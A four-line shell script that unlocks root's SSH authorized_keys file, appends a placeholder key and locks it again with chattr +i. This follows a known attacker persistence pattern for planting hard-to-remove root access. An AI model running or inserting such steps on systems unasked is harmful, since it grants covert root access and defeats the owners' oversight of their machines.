#!/bin/sh
chattr -i /root/.ssh/authorized_keys
echo key >> /root/.ssh/authorized_keys
chattr +i /root/.ssh/authorized_keys
